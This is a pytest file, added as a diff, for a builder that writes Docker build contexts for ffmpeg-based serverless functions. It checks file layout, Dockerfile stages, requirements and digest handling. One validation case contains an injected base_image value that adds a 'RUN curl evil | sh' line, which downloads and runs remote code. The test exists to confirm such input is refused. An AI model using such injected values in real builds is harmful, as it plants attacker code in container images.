@@ -1,0 +1,186 @@
+"""The functions' container build contexts, checked as files (no Docker engine here)."""
+import ast
+import subprocess
+import sys
+import tomllib
+from pathlib import Path
+
+import pytest
+
+from batch_jobs.build import BuildError, build_and_push, context_tag, write_build_context
+
+REPO = Path(__file__).resolve().parents[2]
+
+
+@pytest.fixture
+def script(tmp_path):
+    path = tmp_path / "ffmpeg-script.sh"
+    path.write_bytes(b'#!/bin/bash\necho "SCRIPT: $INPUT_FILE_PATH"\n')
+    return path
+
+
+def write(dest, script, **overrides):
+    arguments = {"function_name": "scar-av-workflow-ffmpeg", "base_image": "jrottenberg/ffmpeg:4.1-ubuntu"}
+    arguments.update(overrides)
+    return write_build_context(dest, script=script, **arguments)
+
+
+def final_stage(dockerfile: str) -> list[str]:
+    lines = dockerfile.splitlines()
+    last_from = max(i for i, line in enumerate(lines) if line.startswith("FROM "))
+    return lines[last_from:]
+
+
+def test_context_holds_dockerfile_script_runtime_and_handlers(tmp_path, script):
+    dest = tmp_path / "ctx"
+    files = write(dest, script)
+    relative = [path.relative_to(dest).as_posix() for path in files]
+    assert relative == sorted(relative)
+    for expected in ("Dockerfile", "requirements.txt", "bin/avgen-handler", "script.sh",
+                     "avgen/lambda_src/core.py", "avgen/lambda_src/handler.py", "avgen/batch_jobs/__init__.py",
+                     "avgen/batch_jobs/entrypoint.py", "avgen/batch_jobs/handlers/__init__.py"):
+        assert expected in relative
+    assert not any("__pycache__" in name or name.endswith(".pyc") for name in relative)
+    assert "avgen/batch_jobs/build.py" not in relative  # the host-side builder stays out of the image
+    assert (dest / "script.sh").read_bytes() == script.read_bytes()
+    assert (dest / "avgen/lambda_src/core.py").read_bytes() == (REPO / "lambda_src/core.py").read_bytes()
+
+
+def test_final_stage_is_the_functions_image_plus_opt_avgen(tmp_path, script):
+    write(tmp_path, script)
+    dockerfile = (tmp_path / "Dockerfile").read_text()
+    stage = final_stage(dockerfile)
+    assert stage[0] == "FROM jrottenberg/ffmpeg:4.1-ubuntu"
+    assert "COPY --from=avgen-runtime /opt/avgen /opt/avgen" in stage
+    assert "COPY --chmod=0755 script.sh /opt/avgen/script.sh" in stage
+    assert 'ENTRYPOINT ["/opt/avgen/python/bin/python3", "-I", "-m"]' in stage
+    assert 'CMD ["awslambdaric", "lambda_src.handler.handler"]' in stage
+    body = "\n".join(line for line in stage if not line.startswith("#"))
+    # Nothing runs in the base image: no shell, no package manager, no use of its Python.
+    assert "RUN " not in body and "pip" not in body
+    # The base image's working folder and user are kept (SCAR scripts rely on the WORKDIR).
+    assert "WORKDIR" not in body and "USER" not in body
+    # Our folder goes at the end of PATH, so the image's own tools win.
+    assert ':/opt/avgen/bin"' in body and "AVGEN_SCRIPT=/opt/avgen/script.sh" in body
+    assert 'io.avgen.function="scar-av-workflow-ffmpeg"' in body
+
+
+def test_builder_stage_installs_a_standalone_python_and_the_runtime(tmp_path, script):
+    write(tmp_path, script)
+    dockerfile = (tmp_path / "Dockerfile").read_text()
+    builder = dockerfile.split("FROM jrottenberg/ffmpeg")[0]
+    assert "uv python install" in builder and "/opt/avgen/python" in builder
+    assert "uv pip install --python /opt/avgen/python/bin/python3" in builder
+    # Wheels that load on old base images (jrottenberg/ffmpeg:4.1-ubuntu has glibc 2.27), never compiled.
+    assert "--only-binary :all:" in builder and '--python-platform "${arch}-manylinux_2_17"' in builder
+    assert "-r /opt/avgen/requirements.txt" in builder
+    assert "import awslambdaric, boto3, lambda_src.handler, batch_jobs.entrypoint" in builder
+    launcher = (tmp_path / "bin/avgen-handler").read_text()
+    assert launcher.startswith("#!/opt/avgen/python/bin/python3 -I\n")
+    assert "from batch_jobs.handlers.cli import main" in launcher
+
+
+def test_requirements_match_the_media_extra_of_pyproject(tmp_path, script):
+    write(tmp_path, script)
+    wanted = [line for line in (tmp_path / "requirements.txt").read_text().splitlines()
+              if line and not line.startswith("#")]
+    media = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["optional-dependencies"]["media"]
+    assert [entry.split("#")[0].strip() for entry in media] == [
+        line for line in wanted if not line.startswith(("boto3", "awslambdaric"))]
+    assert any(line.startswith("awslambdaric") for line in wanted)
+    assert any(line.startswith("opencv-python-headless") and "<5" in line for line in wanted)
+
+
+def test_same_inputs_give_the_same_bytes(tmp_path, script):
+    first = write(tmp_path / "a", script)
+    second = write(tmp_path / "b", script)
+    assert [p.relative_to(tmp_path / "a") for p in first] == [p.relative_to(tmp_path / "b") for p in second]
+    assert all(a.read_bytes() == b.read_bytes() for a, b in zip(first, second))
+    assert context_tag(tmp_path / "a", first) == context_tag(tmp_path / "b", second)
+    other = write(tmp_path / "c", script, base_image="grycap/audio2srt:mini")
+    assert context_tag(tmp_path / "c", other) != context_tag(tmp_path / "a", first)
+
+
+def test_rewriting_drops_stale_sources_and_keeps_other_files(tmp_path, script):
+    write(tmp_path, script)
+    (tmp_path / "avgen/lambda_src/removed_module.py").write_text("")
+    (tmp_path / "notes.txt").write_text("mine")
+    write(tmp_path, script)
+    assert not (tmp_path / "avgen/lambda_src/removed_module.py").exists()
+    assert (tmp_path / "notes.txt").read_text() == "mine"
+
+
+@pytest.mark.parametrize("field, value", [
+    ("base_image", "ubuntu\nRUN curl evil | sh"),
+    ("base_image", "ubuntu latest"),
+    ("base_image", ""),
+    ("function_name", "bad name"),
+    ("function_name", "-leading-dash"),
+])
+def test_values_that_would_break_the_dockerfile_are_refused(tmp_path, script, field, value):
+    with pytest.raises(ValueError):
+        write(tmp_path, script, **{field: value})
+
+
+def test_a_missing_script_is_refused(tmp_path):
+    with pytest.raises(FileNotFoundError):
+        write(tmp_path, tmp_path / "nope.sh")
+
+
+class FakeDocker:
+    """Records docker commands; answers like an engine that builds and pushes."""
+
+    def __init__(self, *, engine=True, fail_on=None):
+        self.commands, self.engine, self.fail_on = [], engine, fail_on
+
+    def __call__(self, command, **kwargs):
+        self.commands.append(command)
+        verb = command[1]
+        if verb == "info" and not self.engine:
+            return subprocess.CompletedProcess(command, 1, "", "Cannot connect to the Docker daemon")
+        if verb == self.fail_on:
+            return subprocess.CompletedProcess(command, 1, "", "step 3/9: no space left on device")
+        out = ""
+        if verb == "image":
+            out = "docker.io/other@sha256:111\n123.dkr.ecr.us-east-1.amazonaws.com/fn@sha256:abc\n"
+        return subprocess.CompletedProcess(command, 0, out, "")
+
+
+REPOSITORY = "123.dkr.ecr.us-east-1.amazonaws.com/fn"
+
+
+def test_build_and_push_returns_the_pushed_digest(tmp_path):
+    docker = FakeDocker()
+    assert build_and_push(tmp_path, REPOSITORY, "ctx-1", run=docker) == f"{REPOSITORY}@sha256:abc"
+    assert [c[1] for c in docker.commands] == ["info", "build", "push", "image"]
+    build = docker.commands[1]
+    assert "--provenance=false" in build and build[build.index("--platform") + 1] == "linux/amd64"
+    assert build[-1] == str(tmp_path) and f"{REPOSITORY}:ctx-1" in build
+    assert docker.commands[2] == ["docker", "push", f"{REPOSITORY}:ctx-1"]
+
+
+def test_without_a_docker_engine_nothing_is_built(tmp_path):
+    docker = FakeDocker(engine=False)
+    assert build_and_push(tmp_path, REPOSITORY, "t", run=docker) is None
+    assert [c[1] for c in docker.commands] == ["info"]
+
+
+def test_a_failed_build_says_why(tmp_path):
+    with pytest.raises(BuildError, match="no space left on device"):
+        build_and_push(tmp_path, REPOSITORY, "t", run=FakeDocker(fail_on="build"))
+
+
+def test_the_runtime_imports_only_the_standard_library_and_boto3():
+    """What goes into images must not need anything the image's Python lacks."""
+    allowed = set(sys.stdlib_module_names) | {"boto3", "botocore", "lambda_src", "batch_jobs"}
+    sources = sorted((REPO / "lambda_src").rglob("*.py")) + [REPO / "batch_jobs/entrypoint.py"]
+    for source in sources:
+        for node in ast.walk(ast.parse(source.read_text())):
+            if isinstance(node, ast.Import):
+                names = [alias.name for alias in node.names]
+            elif isinstance(node, ast.ImportFrom) and node.level == 0:
+                names = [node.module]
+            else:
+                continue
+            for name in names:
+                assert name.split(".")[0] in allowed, f"{source.name} imports {name}"
